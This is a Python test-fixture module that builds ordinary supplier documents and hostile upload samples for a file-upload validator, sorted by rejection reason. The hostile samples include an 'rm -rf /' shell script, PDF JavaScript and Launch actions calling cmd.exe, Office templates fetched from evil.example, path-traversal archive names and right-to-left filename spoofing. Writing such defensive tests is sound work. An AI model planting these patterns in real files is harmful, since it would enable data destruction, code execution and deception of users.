"""Files as suppliers send them and as attackers do, made byte by byte; nothing of it is a file we keep."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import openpyxl
import typst

TYPES = "application/vnd.openxmlformats-officedocument."
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def packed(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
        archive.comment = comment
    return file.getvalue()


def office(kind: str = "docx", types: str = "", **more: bytes | str) -> bytes:
    main, content = {
        "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
        "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
        "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
    }[kind]
    listed = f'<Types><Override PartName="/{main}" ContentType="{TYPES}{content}"/>{types}</Types>'
    return packed({"[Content_Types].xml": listed, "_rels/.rels": "<Relationships/>", main: "<body/>", **more})


def relation(kind: str, target: str, mode: str = "External") -> str:
    return (
        f'<Relationships><Relationship Type="{RELATIONS}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def odf(kind: str = "odt", media: str = "text", **more: bytes | str) -> bytes:
    parts = {"mimetype": f"application/vnd.oasis.opendocument.{media}", "content.xml": "<office/>", **more}
    return packed({**parts, "META-INF/manifest.xml": more.get("META-INF/manifest.xml", "<manifest/>")})


def png(width: int = 2, height: int = 2, behind: bytes = b"") -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 14)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"") + behind


def jpg(width: int = 3, height: int = 4, comment: bytes = b"", behind: bytes = b"") -> bytes:
    note = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
    return b"\xff\xd8" + note + frame + b"\xff\xda\0\x08\1\1\0\0\x3f\0" + b"\x12\x34" + b"\xff\xd9" + behind


def webp(behind: bytes = b"") -> bytes:
    body = b"WEBPVP8L" + struct.pack("<I", 6) + b"\x2f" + struct.pack("<I", (5 - 1) | (7 - 1) << 14) + b"\0"
    return b"RIFF" + struct.pack("<I", len(body)) + body + behind


def pdf(objects: bytes = b"", version: bytes = b"1.7") -> bytes:
    return b"%PDF-" + version + b"\n1 0 obj\n<</Type/Catalog>>\nendobj\n" + objects + b"startxref\n0\n%%EOF\n"


def object_stream(content: bytes, dictionary: bytes = b"/Type/ObjStm/Filter/FlateDecode") -> bytes:
    return b"7 0 obj\n<<" + dictionary + b">>\nstream\n" + zlib.compress(content) + b"\nendstream\nendobj\n"


def real_xlsx() -> bytes:
    book, file = openpyxl.Workbook(), io.BytesIO()
    for row in range(500):
        book.active.append([row, "bolt M8", "12.50", "=A1+1"])
    book.save(file)
    return file.getvalue()


def real_pdf() -> bytes:
    return typst.compile(b'= Offer\n#lorem(300)\n#link("https://example.com")[terms]')


STEP = b"ISO-10303-21;\nHEADER;\nENDSEC;\nEND-ISO-10303-21;\n"

HONEST = {
    "offer.pdf": pdf(),
    "made by typst.pdf": real_pdf(),
    "old.pdf": pdf(version=b"1.4"),
    "objects.pdf": pdf(object_stream(b"1 0 <</Type/Page>>")),
    "letter.docx": office(),
    "prices.xlsx": office("xlsx"),
    "made by openpyxl.XLSX": real_xlsx(),
    "slides.pptx": office("pptx"),
    "chart.docx": office(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}),
    "form.xlsx": office("xlsx", **{"xl/ctrlProps/ctrlProp1.xml": "<p/>", "xl/printerSettings/p1.bin": b"\0\1"}),
    "letter.odt": odf(),
    "prices.ods": odf("ods", "spreadsheet", **{"Object 1/content.xml": "<o/>"}),
    "prices.csv": b"item;price\nbolt;1,20\n",
    "Prix à vérifier.csv": "pièce;prix\nécrou;1,20 €\n".encode("cp1252"),
    "excel.csv": "шт;цена\n".encode("utf-16"),
    "heading.csv": b"MZ;price\n1;2\n",
    "notes.txt": "\ufeffΚαλημέρα\r\n".encode(),
    "prose.txt": b"Our page uses <script> and <html> marks, as agreed.\n",
    "site.png": png(),
    "site.jpg": jpg(),
    "preview.jpeg": jpg(behind=jpg()),
    "site.webp": webp(),
    "part.dwg": b"AC1032" + bytes(100),
    "part.step": STEP,
    "part.stp": b"\xef\xbb\xbf" + STEP,
    "all.zip": packed({"offer/offer.pdf": pdf(), "offer/prices.xlsx": real_xlsx(), "readme.txt": b"hello"}),
    "from a mac.zip": packed({"a.pdf": pdf(), "__MACOSX/._a.pdf": b"\0\5\x16\7\0\2", ".DS_Store": b"\0\0\0\1Bud1\0\0"}),
    "報價單.pdf": pdf(),
    "عرض السعر.pdf": pdf(),
    "a..b (1) [final] #2.pdf": pdf(),
}

MZ = b"MZ\x90\0\3\0\0\0" + bytes(60)
ELF = b"\x7fELF\2\1\1" + bytes(60)
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"

HOSTILE = {
    # programs and scripts, under their own name and under others
    "type_not_allowed": [
        ("run.exe", MZ),
        ("run", ELF),
        ("page.html", b"<html>"),
        ("drawing.svg", b"<svg/>"),
        ("mail.eml", b"From: a"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("script.js", b"alert(1)"),
        ("run.bat", b"del *"),
        ("x.rtf", b"{\\rtf1"),
        ("offer.pdf.exe", MZ),
        ("data.xml", b"<?xml"),
        ("x.7z", b"7z\xbc\xaf"),
        ("link.lnk", b"L\0\0\0"),
        ("x.iso", bytes(9)),
        ("x.php", b"<?php"),
        (".pdf", pdf()),
    ],
    "macros_not_allowed": [
        ("prices.xlsm", real_xlsx()),
        ("letter.docm", office()),
        ("prices.xlsb", office("xlsx")),
        ("prices.xlsx", office("xlsx", **{"xl/vbaProject.bin": b"\0"})),
        ("letter.docx", office(**{"word/VBAPROJECT.BIN": b"\0"})),
        ("letter.docx", office(**{"word/vbaData.xml": "<x/>"})),
        ("prices.xlsx", office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"})),
        ("prices.xlsx", office("xlsx", **{"xl/activeX/activeX1.xml": "<x/>"})),
        (
            "prices.xlsx",
            office("xlsx", types='<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        ),
        (
            "letter.docx",
            office(types='<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        ),
        ("letter.docx", office(**{"word/_rels/document.xml.RELS": relation("vbaProject", "a.bin", "Internal")})),
        ("letter.odt", odf(**{"Basic/Standard/Module1.xml": "<x/>"})),
        ("letter.odt", odf(**{"Scripts/python/a.py": "x"})),
        ("chart.docx", office(**{"word/embeddings/a.xlsx": office("xlsx", **{"xl/vbaProject.bin": b"\0"})})),
        ("all.zip", packed({"prices.xlsm": real_xlsx()})),
    ],
    "program": [
        ("offer.pdf", MZ),
        ("offer.pdf", ELF),
        ("notes.txt", b"#!/bin/sh\nrm -rf /\n"),
        ("site.png", b"\xca\xfe\xba\xbe\0\0"),
        ("prices.csv", MZ),
        ("all.zip", packed({"offer.pdf": MZ})),
        ("letter.docx", office(**{"word/media/a.png": MZ})),
    ],
    "active_content": [
        ("notes.txt", b"<html><script>alert(1)</script>"),
        ("prices.csv", b"a;b\n<SCRIPT src=x>"),
        ("notes.txt", b"<svg onload=x>"),
        ("notes.txt", "\ufeff<!DOCTYPE html>".encode("utf-16-le")),
        ("notes.txt", b"<?php system('x');"),
        ("offer.pdf", pdf(JAVASCRIPT)),
        ("offer.pdf", pdf(b"<</S/J#61vaScript/JS 5 0 R>>")),
        ("offer.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>")),
        ("offer.pdf", pdf(object_stream(JAVASCRIPT))),
        (
            "offer.pdf",
            pdf(object_stream(JAVASCRIPT, b"/Pad( obj)/Type/Obj#53tm/Filter[/FlateDecode]/Pad(" + b"x" * 5000 + b")")),
        ),
        ("offer.pdf", pdf(b"<</AcroForm<</XFA 3 0 R>>>>")),
        ("offer.pdf", pdf(b"<</Subtype/RichMedia>>")),
        ("all.zip", packed({"a.pdf": pdf(JAVASCRIPT)})),
    ],
    "content_differs_from_name": [
        ("offer.pdf", png()),
        ("site.png", jpg()),
        ("site.jpg", pdf()),
        ("prices.xlsx", pdf()),
        ("notes.txt", bytes(range(256))),
        ("prices.csv", b"a;b\n" + b"x" * 300_000 + b"\0"),
        ("part.step", b"no step"),
        ("part.dwg", b"DWG"),
        ("site.webp", b"RIFF....AVI "),
        ("prices.xlsx", office("docx")),
        ("letter.docx", packed({"a.txt": "x"})),
        ("prices.xlsx", packed({"xl/workbook.xml": "x"})),
        ("letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)),
        ("letter.odt", odf("ods", "spreadsheet")),
        ("letter.odt", packed({"META-INF/manifest.xml": "<m/>", "mimetype": TYPES})),
        ("all.zip", b"PK\5\6" + bytes(18)),
        ("offer.pdf", b"\n\n" + pdf()),
        ("all.zip", packed({"a.pdf": b"no pdf"})),
        ("prices.xlsx", packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "x"})),
    ],
    "two_types_in_one": [
        ("offer.pdf", pdf() + packed({"a.txt": "x"})),
        ("site.jpg", jpg(behind=packed({"a.txt": "x"}))),
        ("site.png", png(behind=b"x")),
        ("site.jpg", jpg(comment=b"%PDF-1.7 ")),
        ("site.webp", webp(b"tail")),
        ("notes.txt", b"hello\n%PDF-1.7\n"),
        ("all.zip", packed({"a.txt": "x"}) + b"behind"),
        ("all.zip", packed({"a.txt": "x"}, comment=b"c" * 2000)),
        ("letter.docx", office() + pdf()),
        ("all.zip", b"PK\3\4" + bytes(40) + packed({"a.txt": "x"})),
    ],
    "picture_damaged": [
        ("site.png", png()[:-20]),
        ("site.png", png().replace(b"IDAT", b"IDAX")),
        ("site.jpg", jpg()[:10]),
        ("site.png", png(0, 5)),
        ("site.webp", b"RIFF" + struct.pack("<I", 12) + b"WEBPVP8X" + b"\0\0\0\0"),
    ],
    "picture_too_large": [("site.png", png(60_000, 60_000)), ("site.jpg", jpg(65_000, 65_000))],
    "pdf_damaged": [("offer.pdf", b"%PDF-1.7\nhello"), ("offer.pdf", pdf()[:-30])],
    "pdf_unusual": [
        ("offer.pdf", pdf(object_stream(b"x", b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]"))),
        ("offer.pdf", pdf(b"7 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nno zlib\nendstream\n")),
    ],
    "archive_damaged": [
        ("all.zip", packed({"a.txt": "x"})[:-5]),
        ("all.zip", b"PK\3\4" + bytes(100)),
        ("letter.docx", office().replace(b"PK\1\2", b"PK\1\3")),
        ("all.zip", packed({"a.txt": "hello"}, zipfile.ZIP_STORED).replace(b"hello", b"hullo", 1)),
        ("letter.docx", office(**{"word/_rels/a.rels": "<not closed"})),
    ],
    "archive_unusual": [
        ("all.zip", packed({"a.txt": "x"}, zipfile.ZIP_BZIP2)),
        ("all.zip", packed({"a.txt": "x", "A.TXT": "y"})),
        ("letter.docx", office(**{"word/_rels/a.rels": b'<?xml version="1.0" encoding="cp037"?><x/>'})),
    ],
    "archive_too_deep": [("all.zip", packed({"inner.zip": packed({"a.txt": "x"})}))],
    "archive_encrypted": [("letter.odt", odf(**{"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}))],
    "xml_with_doctype": [
        ("letter.docx", office(**{"word/a.xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa">]><x>&a;</x>'})),
        ("prices.xlsx", office("xlsx", **{"xl/a.xml": "<!DOCTYPE x>".encode("utf-16")})),
        ("letter.docx", office(**{"word/a.xml": b" " * (64 * 1024 - 4) + b"<!DOCTYPE x>"})),
    ],
    "fetches_from_outside": [
        (
            "letter.docx",
            office(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/a.dotm")}),
        ),
        ("letter.docx", office(**{"word/_rels/document.xml.rels": relation("oleObject", "https://evil.example/a")})),
        ("letter.docx", office(**{"word/_rels/document.xml.rels": relation("image", "file://host/share/a.png")})),
        ("slides.pptx", office("pptx", **{"ppt/_rels/a.rels": relation("hyperlink", "\\\\host\\share")})),
    ],
    "embedded_object": [("letter.docx", office(**{"word/embeddings/oleObject1.bin": b"\0"}))],
    "name_has_path": [
        ("all.zip", packed({"../../etc/passwd.txt": "x"})),
        ("all.zip", packed({"/etc/passwd.txt": "x"})),
        ("all.zip", packed({"a\\..\\b.txt": "x"})),
        ("all.zip", packed({"a//b.txt": "x"})),
        ("all.zip", packed({"./b.txt": "x"})),
        ("../offer.pdf", pdf()),
        ("..\\offer.pdf", pdf()),
        ("C:\\offer.pdf", pdf()),
        ("/etc/offer.pdf", pdf()),
        ("..offer.pdf", pdf()),
    ],
    "name_has_control": [
        ("offer\0.pdf", pdf()),
        ("offer\n.pdf", pdf()),
        ("offer\x7f.pdf", pdf()),
        ("offer\u2028.pdf", pdf()),
        ("\ud800.pdf", pdf()),
    ],
    "name_has_direction": [
        ("offer\u202efdp.exe.pdf", pdf()),
        ("\u2066a.pdf", pdf()),
        ("all\u200f.zip", packed({"a.txt": "x"})),
        ("all.zip", packed({"a\u202etxt.pdf": pdf()})),
    ],
    "name_has_invisible": [("of\u200bfer.pdf", pdf()), ("offer\u00ad.pdf", pdf()), ("offer\U000e0041.pdf", pdf())],
    "name_has_forbidden": [
        ("offer.pdf:run.exe", pdf()),
        ("a<b>.pdf", pdf()),
        ('a".pdf', pdf()),
        ("a|b.pdf", pdf()),
        ("a?.pdf", pdf()),
    ],
    "name_reserved": [
        ("CON.pdf", pdf()),
        ("nul.pdf", pdf()),
        ("lpt1.x.pdf", pdf()),
        ("all.zip", packed({"aux.txt": "x"})),
    ],
    "name_ends_badly": [("offer.pdf ", pdf()), ("offer.pdf.", pdf()), (" offer.pdf", pdf())],
    "name_too_long": [("x" * 200 + ".pdf", pdf()), ("字" * 90 + ".pdf", pdf())],
    "name_empty": [("", pdf()), (" ", pdf()), ("...", pdf())],
    "file_empty": [("offer.pdf", b"")],
}
